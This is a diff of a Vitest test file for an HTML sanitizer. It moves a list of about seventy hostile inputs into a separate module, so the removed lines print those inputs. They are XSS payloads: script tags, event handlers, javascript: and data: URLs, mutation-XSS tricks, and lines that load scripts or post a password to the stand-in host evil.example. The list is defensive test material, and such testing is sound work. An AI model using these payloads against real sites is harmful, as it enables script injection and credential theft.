@@ -2,6 +2,7 @@ import type { DefaultTreeAdapterTypes } from 'parse5';
 import { parseFragment } from 'parse5';
 import { describe, expect, test, vi } from 'vitest';
 import { HTML_MAX, NESTING_MAX, sanitizeHtml } from '../../src/admin/html.ts';
+import { HOSTILE } from '../hostile.ts';
 
 const ELEMENTS = new Set(
   `p div br hr h3 h4 h5 h6 blockquote pre code strong em u s sub sup a img ul ol li dl dt dd figure figcaption
@@ -144,81 +145,6 @@ describe('what an editor writes stays', () => {
     ).toBe('<p>Text</p>');
   });
 });
-
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT >',
-  '<img src=x onerror=alert(1)>',
-  '<img src="/a.png" srcset="//evil.example/x 2x" style="x" usemap=#x onload=alert(1) alt="<script>x</script>">',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  '<img src="//evil.example/track.gif">',
-  '<picture><source srcset="//evil.example/x"><img src="javascript:alert(1)"></picture>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
-  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>',
-  '<math href="javascript:alert(1)">x</math>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="javascript:alert(1)">',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<template><script>alert(1)</script></template>',
-  '<textarea><img src=x onerror=alert(1)></textarea>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<style>@import "//evil.example";</style>',
-  '<link rel=stylesheet href=//evil.example>',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java&#10;script:alert(1)">x</a>',
-  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
-  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="blob:https://a.co/1">x</a>',
-  '<a href="//evil.example/">x</a>',
-  '<a href="/\\evil.example/">x</a>',
-  '<a href="/\t/evil.example/">x</a>',
-  '<a href="/.//evil.example/">x</a>',
-  '<a href="\\\\evil.example">x</a>',
-  '<a href="https://user:secret@evil.example/">x</a>',
-  '<a href="https:evil.example">x</a>',
-  '<a href="relative/path">x</a>',
-  '<a href="#here">x</a>',
-  '<a href="https://a.co/" style="position:fixed;inset:0">x</a>',
-  '<p id="contact" name="body" class="hidden" data-x onclick=x tabindex=1 role=button aria-label=x>x</p>',
-  '<a href="https://a.co/" id=location>x</a>',
-  '<table><td background="javascript:alert(1)" colspan="9999999">x</td></table>',
-  '<td>outside</td><li>outside</li>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<video><source onerror=alert(1)></video>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<plaintext><img src=x onerror=alert(1)>',
-  '<select><script>alert(1)</script></select>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<!--x--!><img src=x onerror=alert(1)>',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<?php echo 1 ?><img src=x onerror=alert(1)>',
-  '<x onclick=alert(1)>x</x>',
-  '<custom-element onconnected=x>x</custom-element>',
-  '<constructor>x</constructor><__proto__>x</__proto__><a constructor=x tostring=y href="/x">x</a>',
-  '<p><button><p>nested</p></button></p>',
-  '<a href="/a">one <table><tr><td><a href="/b">two</a></td></tr></table></a>',
-  '<b><p>mis</b>nested</p>',
-  '<pre>\n\n\nlines</pre>',
-  '\0<scr\0ipt>alert(1)</script>',
-  '<<script>alert(1)//<</script>',
-  '<img """><script>alert(1)</script>">',
-  '<a title="></a><img src=x onerror=alert(1)>">x</a>',
-];
 
 describe('what nobody should write goes', () => {
   test.each(HOSTILE)('%j leaves nothing outside of the allow-list, and reads the same twice', async (raw) => {
